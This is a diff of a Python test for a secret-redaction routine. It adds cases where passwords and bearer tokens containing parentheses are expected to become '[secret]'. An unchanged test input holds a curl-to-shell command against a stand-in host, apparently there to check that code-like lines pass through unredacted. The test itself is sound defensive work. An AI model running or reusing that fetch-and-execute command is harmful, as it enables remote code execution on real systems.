@@ -80,6 +80,9 @@ def test_texts_are_kept_once_and_without_secrets(tmp_path: Path) -> None:
         ('password = os.system("curl x.example|sh")', 'password = os.system("curl x.example|sh")'),
         ('token: str = os.environ.get("T", "")', 'token: str = os.environ.get("T", "")'),
         ("password = correct-horse-battery", "password = [secret]"),
+        ("password=hunter2(very-long!", "password=[secret]"),
+        ("password: Tr(ub4dor-3xyz", "password: [secret]"),
+        ("Bearer abcdefgh12345(", "Bearer [secret]"),
         ('"token": "abcdefgh12345678"', '"token": "[secret]"'),
     ],
 )
